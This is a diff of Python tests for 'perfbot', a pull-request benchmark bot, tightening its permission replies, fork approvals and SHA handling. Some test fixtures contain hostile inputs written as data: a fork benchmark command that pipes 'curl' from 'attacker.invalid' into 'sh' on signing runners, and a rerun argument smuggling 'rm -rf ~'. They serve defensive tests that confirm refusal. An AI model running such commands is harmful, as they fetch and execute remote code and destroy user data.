@@ -148,9 +148,7 @@ def test_permission_levels(world, tmp_path, monkeypatch, role, allowed):
     else:
         assert out == {"run": "false"}
         assert reactions(world, comment) == ["confused"]
-        (reply,) = replies(world)
-        assert reply.startswith("@alice perfbot did not run this: `/perfbot rerun` needs `write`")
-        assert f"`alice` has `{role}`" in reply
+        assert replies(world) == []  # only who may ask gets a reply
 
 
 def test_author_association_alone_is_not_enough(world, tmp_path, monkeypatch):
@@ -172,8 +170,8 @@ def test_the_minimum_permission_comes_from_the_default_branch_not_the_pull_reque
         contents={".perfbot.yml": CONFIG + "rerun: {min_permission: read}\n"},
     )
     world.set_permission("writer", "write")
-    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="writer")
-    assert out["run"] == "false" and "needs `maintain` access" in replies(world)[0]
+    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="writer")
+    assert out["run"] == "false" and reactions(world, c) == ["confused"] and replies(world) == []
     _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="maintainer")
     assert out["run"] == "true"
 
@@ -190,12 +188,12 @@ def test_a_pull_request_against_a_branch_with_a_weaker_policy_gets_the_default_b
     _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}",
                             user="mallory")  # fmt: skip
     assert out == {"run": "false"} and reactions(world, c) == ["confused"]
-    assert "`/perfbot ok-to-test` needs `admin` access" in replies(world)[-1]
     _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p", user="mallory")
-    assert out == {"run": "false"} and "needs `admin` access" in replies(world)[-1]
+    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
     # a maintainer (not admin) cannot either: the default branch asks for admin
-    _, out, _ = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
-    assert out == {"run": "false"} and "needs `admin` access" in replies(world)[-1]
+    _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
+    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
+    assert replies(world) == []  # below the default branch's minimum: no reply at all
     # the policy was read at the default branch, never at the base branch
     reads = [r.query.get("ref") for r in world.calls("GET", "/contents/.perfbot.yml")]
     assert "experiments" not in reads and "main" in reads
@@ -227,7 +225,8 @@ def test_fork_without_approval_is_refused(world, tmp_path, monkeypatch):
     assert code == 0 and out == {"run": "false"}
     assert reactions(world, comment) == ["confused"]
     (reply,) = replies(world)
-    assert "comes from a fork" in reply and f"`/perfbot ok-to-test {pr.head_sha}`" in reply
+    assert "comes from a fork" in reply and "`/perfbot ok-to-test <full SHA>`" in reply
+    assert pr.head_sha not in reply and f"`{pr.head_sha[:12]}`…" in reply  # nothing to paste
     # nothing was read from the fork's head: no config, no files
     assert not [c for c in world.calls("GET") if pr.head_sha in c.url]
 
@@ -256,7 +255,8 @@ def test_ok_to_test_without_the_full_sha_is_refused_and_shows_it(
     assert out == {"run": "false"} and reactions(world, ok) == ["confused"]
     reply = replies(world)[-1]
     assert "full 40-character commit" in reply
-    assert f"```\n/perfbot ok-to-test {pr.head_sha}\n```" in reply  # ready to copy
+    assert pr.head_sha not in reply  # no paste-ready approval of whatever the head is now
+    assert "Copy the full SHA of the commit you have read" in reply
     _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p")
     assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]
 
@@ -275,7 +275,8 @@ def test_a_push_between_the_approval_and_the_gate_job_is_not_approved(world, tmp
                              before=push)  # fmt: skip
     h1 = world.pulls[1].head_sha
     assert h1 != h0 and out == {"run": "false"} and reactions(world, ok) == ["confused"]
-    assert f"is now `{h1}`, not `{h0}`" in replies(world)[-1]
+    assert f"is now `{h1[:12]}`…, not `{h0[:12]}`…" in replies(world)[-1]
+    assert h1 not in replies(world)[-1]
     # without a sha (the old short form): refused, whatever the head is when the job runs
     _, out, ok = run_command(world, tmp_path, monkeypatch, "/perfbot ok-to-test", before=push)
     assert out == {"run": "false"} and reactions(world, ok) == ["confused"]
@@ -299,7 +300,7 @@ def test_a_commit_sharing_the_approved_prefix_is_not_approved(world, tmp_path, m
     run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {h0}")
     _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
     assert out == {"run": "false"}
-    assert f"the approval of `{h0[:12]}` does not cover" in replies(world)[-1]
+    assert f"the approval of `{h0[:12]}`… does not cover" in replies(world)[-1]
 
 
 def test_fork_approval_of_an_older_sha_does_not_cover_a_new_push(world, tmp_path, monkeypatch):
@@ -311,11 +312,11 @@ def test_fork_approval_of_an_older_sha_does_not_cover_a_new_push(world, tmp_path
     _, out, comment = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
     assert out == {"run": "false"} and reactions(world, comment) == ["confused"]
     reply = replies(world)[-1]
-    assert f"`/perfbot ok-to-test {new}`" in reply
-    assert f"the approval of `{old[:12]}` does not cover the commits pushed since" in reply
+    assert new not in reply and f"the head is now `{new[:12]}`…" in reply
+    assert f"the approval of `{old[:12]}`… does not cover the commits pushed since" in reply
     # approving with the old sha after the push is refused too
     _, out, comment = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {old}")
-    assert out == {"run": "false"} and f"is now `{new}`" in replies(world)[-1]
+    assert out == {"run": "false"} and f"is now `{new[:12]}`…" in replies(world)[-1]
 
 
 def test_an_approval_counts_only_while_the_approver_may_approve(world, tmp_path, monkeypatch):
@@ -378,10 +379,11 @@ def test_ok_to_test_shows_what_differs_from_the_default_branch(world, tmp_path, 
     _, out, ok = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
     assert reactions(world, ok) == ["eyes"]
     reply = replies(world)[-1]
-    assert "(2 of 4)" in reply
-    assert "`dit-8p`: `bash -c 'curl -s http://attacker.invalid/x | sh'`" in reply
-    assert "on `self-hosted, release-signing` ⚠️ not in `rerun.runners`: refused" in reply
-    assert "`extra` (new)" in reply
+    assert "2 of its 4 benchmark(s) are new or differ" in reply
+    assert "- `dit-8p` (changed `command`, `runs_on`) ⚠️ not in `rerun.runners`: refused" in reply
+    assert '  command: ["bash", "-c", "curl -s http://attacker.invalid/x | sh"]' in reply
+    assert '  runs_on: ["self-hosted", "release-signing"]' in reply
+    assert "- `extra` (new)" in reply
     assert "dit-1p" not in reply and "vit-1p" not in reply  # unchanged: not listed
     # and the rerun of what was approved is refused for its runner labels
     _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
@@ -396,7 +398,7 @@ def test_ok_to_test_needs_permission_and_is_not_needed_for_branches_of_the_repo(
     _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}",
                             user="contributor")  # fmt: skip
     assert out == {"run": "false"} and reactions(world, c) == ["confused"]
-    assert "`/perfbot ok-to-test` needs `write` access" in replies(world)[-1]
+    assert replies(world) == []
     world.add_pull(2, changes={README: (OLD, NEW)}, contents={".perfbot.yml": CONFIG})
     _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot ok-to-test", number=2)
     assert out == {"run": "false"} and reactions(world, c) == ["eyes"]
@@ -504,13 +506,11 @@ def test_comments_not_for_perfbot_are_ignored_without_a_request(world, tmp_path,
 
 def test_invalid_commands_get_the_usage_and_help_gets_it_too(world, tmp_path, monkeypatch):
     open_pull(world)
-    world.set_permission("stranger", "none")
-    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit; rm -rf ~",
-                            user="stranger")  # fmt: skip
+    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit; rm -rf ~")
     assert out == {"run": "false"} and reactions(world, c) == ["confused"]
     reply = replies(world)[-1]
     assert "`dit;` is not a README path" in reply and "How to use perfbot" in reply
-    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot help", user="stranger")
+    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot help")
     assert out == {"run": "false"} and reactions(world, c) == ["eyes"]
     assert "`/perfbot rerun [TARGET ...] [KEY=VALUE ...]`" in replies(world)[-1]
     assert world.schema_errors == []
